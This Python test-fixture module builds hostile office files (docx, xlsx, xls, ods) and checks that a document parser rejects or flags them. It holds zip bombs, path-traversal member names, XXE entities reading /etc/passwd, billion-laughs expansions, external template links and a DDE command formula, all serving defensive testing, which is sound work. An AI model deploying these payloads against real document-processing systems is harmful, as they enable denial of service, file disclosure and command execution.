"""Word files, workbooks and spreadsheets that are made to harm or to mislead."""

from __future__ import annotations

import datetime as dt
import io
import struct
from collections.abc import Callable
from typing import Any

import makers
import openpyxl
import xlsxwriter
import zips
from cases import file
from docxmaker import (
    HEADER,
    cell,
    deleted,
    document,
    docx,
    inserted,
    packed,
    par,
    row,
    run,
    table,
)

VALUE = "≥90%"
READ = ((VALUE, VALUE),)


# ---- Word ---------------------------------------------------------------------------------------


def word(value: str = VALUE, styles: str = "") -> bytes:
    """A sound file with one row, whose target cell is given."""
    rows = (row(*HEADER), row("产出指标", "质量指标", "合格率", cell(value)))
    return docx(table(*rows), styles=styles)


@file("bomb of paragraphs.docx", 14, error="KP306", reason={"docx_elements", "zip_ratio"})
def _() -> bytes:
    return docx("<w:p><w:r/></w:p>" * 1_000_000 + "<w:p/>" * 2_000_000)


@file("bomb within the ratio.docx", 14, error="KP306", reason="docx_elements")
def _() -> bytes:
    return docx("<w:p/>" * 3_000_000 + par(run("".join(f"{n:x}" for n in range(80_000)))))


@file("bomb of attributes.docx", 14, error="KP306", reason={"docx_elements", "zip_ratio"})
def _() -> bytes:
    many = " ".join(f'a{n}="{n}"' for n in range(1_100_000))
    return docx(f"<w:p {many}/>")


@file("bomb of one long text.docx", 14, error="KP306", reason={"zip_size", "zip_ratio"})
def _() -> bytes:
    return docx(par(run("九" * 30_000_000)))


@file("bomb in a part that nobody reads.docx", 14, error="KP306", reason={"zip_size", "zip_ratio"})
def _() -> bytes:
    return zips.packed([("word/media/a.bin", bytes(60_000_000))], word())


@file("many members.docx", 14, error="KP306", reason="zip_members")
def _() -> bytes:
    return zips.packed([(f"word/media/{n}", "") for n in range(2_100)], word())


@file("doubled member.docx", 14, error="KP306", reason="zip_name")
def _() -> bytes:
    return zips.packed([("word/document.xml", document(par(run("≥10%"))))], word())


@file("member that climbs.docx", 14, error="KP306", reason="zip_name")
def _() -> bytes:
    return zips.packed([("word/../../evil", "x")], word())


@file("member that climbs backwards.docx", 14, error="KP306", reason="zip_name")
def _() -> bytes:
    return zips.packed([("word\\..\\..\\evil", "x")], word())


@file("member at the root.docx", 14, error="KP306", reason="zip_name")
def _() -> bytes:
    return zips.packed([("/etc/evil", "x")], word())


@file("sizes that lie.docx", 14, error="KP306", reason={"zip", "zip_size", "zip_ratio", "xml"})
def _() -> bytes:
    return zips.lying(docx("<w:p/>" * 3_000_000), 10)


@file("sizes that are too large.docx", 14, rows=READ)
def _() -> bytes:
    return zips.lying(word(), 0xFFFFFFF0)


@file("encrypted members.docx", 14, error="KP306", reason={"zip", "password"})
def _() -> bytes:
    return zips.flagged(word(), 1)


@file("unknown method.docx", 14, error="KP306", reason="zip")
def _() -> bytes:
    return zips.method(word(), 99)


@file("cut in half.docx", 14, error="KP306", reason="zip")
def _() -> bytes:
    return word()[:600]


@file("entity in the text.docx", 15, error="KP306", reason="xml_doctype")
def _() -> bytes:
    main = document(table(row(*HEADER), row("", "", "甲", "≥&n;%")))
    return packed(
        {"word/document.xml": main.replace("<w:doc", '<!DOCTYPE w [<!ENTITY n "90">]><w:doc', 1)}
    )


@file("entity from outside.docx", 15, error="KP306", reason="xml_doctype")
def _() -> bytes:
    outside = '<!DOCTYPE w [<!ENTITY n SYSTEM "file:///etc/passwd">]><w:doc'
    main = document(table(row(*HEADER), row("", "", "甲", "&n;")))
    return packed({"word/document.xml": main.replace("<w:doc", outside, 1)})


def laughs(root: str) -> bytes:
    """Entities that hold each other, and would be a thousand million words."""
    names = [f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 10)]
    return f'<!DOCTYPE {root} [<!ENTITY a0 "ha">{"".join(names)}]><{root}>&a9;</{root}>'.encode()


@file("laughs in the styles.docx", 15, error="KP306", reason="xml_doctype")
def _() -> bytes:
    return zips.with_parts(word(), {"word/styles.xml": laughs("styles")})


@file("laughs in a part that nobody reads.docx", 15, error="KP306", reason="xml_doctype")
def _() -> bytes:
    return zips.with_parts(word(), {"docProps/app.xml": laughs("app")})


@file("laughs in UTF-16.docx", 15, error="KP306", reason={"xml_doctype", "xml"})
def _() -> bytes:
    coded = ('<?xml version="1.0" encoding="UTF-16"?>' + laughs("app").decode()).encode("utf-16")
    return zips.with_parts(word(), {"docProps/app.xml": coded})


@file("tables in tables.docx", 14, error="KP306", reason={"docx_deep", "xml"})
def _() -> bytes:
    made = table(row(*HEADER))
    for _ in range(60):
        made = table(row(cell(made + par())))
    return docx(made)


@file("runs in runs.docx", 14, error="KP306", reason={"docx_deep", "xml", "zip_ratio"})
def _() -> bytes:
    return word(par("<w:ins>" * 100_000 + run("甲") + "</w:ins>" * 100_000))


@file("span of a million columns.docx", 14, error="KP306", reason="columns")
def _() -> bytes:
    return docx(table(row(cell("甲", '<w:gridSpan w:val="1000000"/>'))))


@file("no document.docx", 14, error="KP306", reason={"xml", "docx_body"})
def _() -> bytes:
    return packed({"word/document.xml": "<x/>"})


@file(
    "deleted and inserted.docx",
    16,
    rows=(("≥95%", "≥95%"),),
    notes={"word.deleted", "word.inserted"},
)
def _() -> bytes:
    return word(par(deleted(VALUE), inserted("≥95%")))


@file("hidden text.docx", 16, rows=READ, notes="word.hidden")
def _() -> bytes:
    return word(par(run("≥50%", "<w:vanish/>"), run(VALUE)))


@file("raised figure.docx", 16, rows=(("≥90¹%", "KP101"),), notes="word.raised")
def _() -> bytes:
    raised = run("1", '<w:vertAlign w:val="superscript"/>')
    return word(par(run("≥90"), raised, run("%")))


@file(
    "written from right to left.docx", 16, rows=(("\u202e%09≥\u202c", "KP107"),), notes="word.rtl"
)
def _() -> bytes:
    return word(par(f'<w:bdo w:val="rtl">{run("%09≥")}</w:bdo>'))


@file("styles that stand on each other.docx", 16, rows=READ)
def _() -> bytes:
    styles = "".join(
        f'<w:style w:type="character" w:styleId="S{n}"><w:basedOn w:val="S{(n + 1) % 5}"/></w:style>'
        for n in range(5)
    )
    return word(par(run(VALUE, '<w:rStyle w:val="S0"/>')), styles=styles)


@file("links to the outside.docx", 16, rows=READ)
def _() -> bytes:
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="x/styles" Target="file:///etc/passwd" TargetMode="External"/>'
        b'<Relationship Id="r2" Type="x/attachedTemplate" Target="http://192.0.2.1/t.dotm" '
        b'TargetMode="External"/><Relationship Id="r3" Type="x/numbering" '
        b'Target="../../../etc/passwd"/></Relationships>'
    )
    return zips.with_parts(word(), {"word/_rels/document.xml.rels": relations})


# ---- workbooks ----------------------------------------------------------------------------------

TARGETS = ("三级指标", "指标值")
SHEET = "xl/worksheets/sheet1.xml"
Cells = list[Any]


def book(*rows: Cells, change: Callable[[openpyxl.Workbook], object] | None = None) -> bytes:
    """A workbook of one sheet, changed before it is saved."""
    made = openpyxl.Workbook()
    for cells in (list(TARGETS), *rows):
        made.active.append(cells)
    if change is not None:
        change(made)
    stream = io.BytesIO()
    made.save(stream)
    return stream.getvalue()


ONE: Cells = ["合格率", VALUE]


def xml(old: bytes, new: bytes) -> bytes:
    """A sound workbook with bytes of its sheet replaced."""
    return zips.changed(book(ONE), SHEET, old, new)


@file("cell at the far end.xlsx", 16, error="KP306", reason="sheet_far")
def _() -> bytes:
    return xml(b'r="B2"', b'r="XFD1048576"')


@file("row beyond all rows.xlsx", 16, error="KP306", reason={"sheet_far", "sheet_ref"})
def _() -> bytes:
    return xml(b'<row r="2"', b'<row r="99999999999999"')


@file("cell that is nowhere.xlsx", 16, error="KP306", reason="sheet_ref")
def _() -> bytes:
    return xml(b'r="B2"', b'r="2B"')


@file("merged beyond all bounds.xlsx", 16, error="KP306", reason={"sheet_far", "sheet_cells"})
def _() -> bytes:
    merged = b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return xml(b"</sheetData>", merged)


@file("merged over and over.xlsx", 16, error="KP306", reason="sheet_cells")
def _() -> bytes:
    areas = b"".join(b'<mergeCell ref="A1:C%d"/>' % (40_000 + n) for n in range(20))
    return xml(b"</sheetData>", b"</sheetData><mergeCells>" + areas + b"</mergeCells>")


@file("bomb of cells.xlsx", 14, error="KP306", reason={"sheet_cells", "zip_ratio", "zip_size"})
def _() -> bytes:
    return xml(b"</sheetData>", b"<row>" + b"<c/>" * 3_000_000 + b"</row></sheetData>")


@file("bomb of shared texts.xlsx", 14, error="KP306", reason={"zip_ratio", "zip_size"})
def _() -> bytes:
    return zips.with_parts(book(ONE), {"xl/sharedStrings.xml": b"<sst>" + b"<si/>" * 12_000_000})


@file("entity in a sheet.xlsx", 15, error="KP306", reason="xml_doctype")
def _() -> bytes:
    return xml(b"<worksheet", b'<!DOCTYPE w [<!ENTITY n "90">]><worksheet')


@file("laughs in the shared texts.xlsx", 15, error="KP306", reason="xml_doctype")
def _() -> bytes:
    return zips.with_parts(book(ONE), {"xl/sharedStrings.xml": laughs("sst")})


@file("broken sheet.xlsx", 15, error="KP306", reason="xml")
def _() -> bytes:
    return xml(b"</sheetData>", b"")


@file("elements in elements.xlsx", 15, error="KP306", reason={"xml", "workbook", "zip_ratio"})
def _() -> bytes:
    return xml(b"</sheetData>", b"</sheetData>" + b"<a>" * 200_000)


@file("cut in half.xlsx", 14, error="KP306", reason="zip")
def _() -> bytes:
    return book(ONE)[:2000]


def _hide(made: openpyxl.Workbook) -> None:
    made.active.row_dimensions[3].hidden = True
    made.active.column_dimensions["C"].hidden = True
    made.active["C1"], made.active["C2"] = "备注", "旧"
    for name, state in (("旧表", "hidden"), ("更旧", "veryHidden")):
        sheet = made.create_sheet(name)
        sheet.sheet_state = state
        for cells in (TARGETS, (name, "≥1%")):
            sheet.append(cells)


@file(
    "hidden rows, columns and sheets.xlsx",
    16,
    rows=(*READ, ("≥10%", "≥10%"), ("≥1%", "≥1%"), ("≥1%", "≥1%")),
    notes={"table.hidden_rows", "table.hidden_columns", "table.hidden_sheet"},
)
def _() -> bytes:
    return book(ONE, ["隐藏", "≥10%"], change=_hide)


@file("formula without a result.xlsx", 16, rows=(("", "KP105"),), problems="no_result")
def _() -> bytes:
    return book(["合格率", '="≥"&"90%"'])


@file("formula in a circle.xlsx", 16, rows=(("", "KP105"),), problems="no_result")
def _() -> bytes:
    return book(["合格率", "=B2"])


@file("fault of a formula.xlsx", 16, rows=(("", "KP105"),), problems="error_value")
def _() -> bytes:
    return book(["合格率", "#DIV/0!"])


def written(
    write: Callable[[xlsxwriter.Workbook, xlsxwriter.worksheet.Worksheet], object],
) -> bytes:
    """A workbook whose cells are written with care for their types."""
    stream = io.BytesIO()
    made = xlsxwriter.Workbook(stream, {"in_memory": True})
    sheet = made.add_worksheet("表一")
    sheet.write_row(0, 0, (*TARGETS, "实际完成值"))
    sheet.write_string(1, 0, "合格率")
    write(made, sheet)
    made.close()
    return stream.getvalue()


@file("link to another book.xlsx", 16, rows=READ)
def _() -> bytes:
    return written(
        lambda _, s: s.write_formula(1, 1, "='http://192.0.2.1/[a.xlsx]S'!A1", None, VALUE)
    )


@file("command in a formula.xlsx", 16, rows=(("90%", "90%"),), notes="bare")
def _() -> bytes:
    return written(lambda _, s: s.write_formula(1, 1, "=cmd|'/c calc'!A0", None, "90%"))


@file(
    "text that looks like a formula.xlsx", 18, rows=(('=HYPERLINK("http://x/1","90%")', "KP101"),)
)
def _() -> bytes:
    return written(lambda _, s: s.write_string(1, 1, '=HYPERLINK("http://x/1","90%")'))


@file("sign that looks like a formula.xlsx", 18, rows=(("=100%", "=100%"),))
def _() -> bytes:
    return written(lambda _, s: s.write_string(1, 1, "=100%"))


def formatted(value: object, form: str) -> bytes:
    """A workbook with one number in a number format."""

    def write(made: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        sheet.write_string(1, 1, VALUE)
        sheet.write(1, 2, value, made.add_format({"num_format": form}))

    return written(write)


@file("more shown than stored.xlsx", 17, rows=READ, actuals=("91%",), notes="table.shown")
def _() -> bytes:
    return formatted(0.905, "0%")


@file("sign in the format.xlsx", 17, rows=READ, actuals=("0.1",), notes="table.format_unknown")
def _() -> bytes:
    return formatted(0.1, '"≥90%"')


@file(
    "nothing shown.xlsx",
    17,
    rows=READ,
    actuals=("0.95",),
    notes="table.format_unknown",
)
def _() -> bytes:
    return formatted(0.95, ";;;")


@file("day by its number.xlsx", 17, rows=READ, actuals=("2024年12月",), notes="table.shown")
def _() -> bytes:
    return formatted(dt.date(2024, 12, 31), 'yyyy"年"m"月"')


@file("format of many sections.xlsx", 17, rows=READ)
def _() -> bytes:
    return formatted(0.95, ";".join(['[Red]0"人"'] * 50)[:250])


@file("number that is none.xlsx", 17, error="KP306", reason={"workbook", "xml", "sheet_ref"})
def _() -> bytes:
    sound = written(lambda _, s: s.write_number(1, 1, 90))
    return zips.changed(sound, SHEET, b"<v>90</v>", b"<v>NaN</v>")


@file("number beyond all numbers.xlsx", 17, rows=(("1" + "0" * 308, "KP106"),))
def _() -> bytes:
    return written(lambda _, s: s.write_number(1, 1, 1e308))


@file("macros.xlsm", 16, rows=READ, notes="table.macros")
def _() -> bytes:
    return zips.packed([("xl/vbaProject.bin", b"x" * 100)], book(ONE))


@file("shared text that is not there.xlsx", 16, error="KP306", reason={"workbook", "xml"})
def _() -> bytes:
    sound = written(lambda _, s: s.write_string(1, 1, VALUE))
    return zips.changed(sound, SHEET, b"<v>4</v>", b"<v>400000</v>")


@file("style that is not there.xlsx", 16, error="KP306", reason={"workbook", "xml"})
def _() -> bytes:
    return xml(b'r="B2"', b's="99999" r="B2"')


@file("password.xlsx", 16, error="KP306", reason="password")
def _() -> bytes:
    return makers.compound(EncryptedPackage=b"x" * 5000, EncryptionInfo=b"y" * 5000)


# ---- old and open workbooks ---------------------------------------------------------------------

OLD = [[*TARGETS], ["合格率", VALUE]]


@file(
    "far row.xls", 16, error="KP306", reason={"sheet_far", "sheet_cells", "child_died", "workbook"}
)
def _() -> bytes:
    far = struct.pack("<HHHHB", 65535, 16000, 0, 1, 1) + "9".encode("utf-16-le")
    return makers.xls(OLD, tail=makers.record(0x0204, far))


@file("hidden sheet.xls", 16, rows=READ, notes="table.hidden_sheet")
def _() -> bytes:
    return makers.xls(OLD, hidden=True)


@file("cut in half.xls", 16, error="KP306")
def _() -> bytes:
    made = makers.xls(OLD)
    return made[: len(made) // 2]


@file(
    "chains in circles.xls",
    16,
    error="KP306",
    reason="chains",
)
def _() -> bytes:
    made = bytearray(makers.xls(OLD))
    struct.pack_into("<128I", made, 512, *([2] * 128))
    return bytes(made)


@file("records of noise.xls", 16, error="KP306", reason={"workbook", "child_died"})
def _() -> bytes:
    return makers.compound(Workbook=bytes(n * 37 % 251 for n in range(6000)))


@file("parts of noise.xlsb", 16, error="KP306", reason={"workbook", "child_died"})
def _() -> bytes:
    noise = bytes(n * 37 % 251 for n in range(6000))
    return zips.packed([("xl/workbook.bin", noise), ("xl/worksheets/sheet1.bin", noise)])


SHEET_ODS = (
    f'<table:table table:name="表一">{makers.ods_row(*TARGETS)}{makers.ods_row("合格率", VALUE)}'
)


@file("a thousand million columns.ods", 16, error="KP306", reason={"columns", "sheet_far"})
def _() -> bytes:
    wide = (
        '<table:table-row><table:table-cell table:number-columns-repeated="1000000000" '
        'office:value-type="string"><text:p>甲</text:p></table:table-cell></table:table-row>'
    )
    return makers.ods(f"{SHEET_ODS}{wide}</table:table>")


@file(
    "a thousand million rows.ods",
    16,
    error="KP306",
    reason={"sheet_far", "sheet_cells", "table_rows"},
)
def _() -> bytes:
    many = makers.ods_row("甲", "≥1%").replace(
        "<table:table-row>", '<table:table-row table:number-rows-repeated="1000000000">'
    )
    return makers.ods(f"{SHEET_ODS}{many}</table:table>")


@file("blank to the far end.ods", 16, rows=READ)
def _() -> bytes:
    blank = (
        '<table:table-row table:number-rows-repeated="1048574">'
        '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    )
    return makers.ods(f"{SHEET_ODS}{blank}</table:table>")


@file("entity.ods", 15, error="KP306", reason="xml_doctype")
def _() -> bytes:
    return makers.ods(f"{SHEET_ODS}</table:table>", head='<!DOCTYPE a [<!ENTITY n "90">]>')


@file("bomb.ods", 14, error="KP306", reason={"zip_size", "zip_ratio", "sheet_cells"})
def _() -> bytes:
    return makers.ods(SHEET_ODS + "<table:table-row/>" * 3_000_000 + "</table:table>")


@file("spaces without number.ods", 14, rows=None)
def _() -> bytes:
    spaces = '<text:p>≥<text:s text:c="1000000000"/>90%</text:p>'
    made = SHEET_ODS.replace(f"<text:p>{VALUE}</text:p>", spaces)
    assert made != SHEET_ODS
    return makers.ods(f"{made}</table:table>")
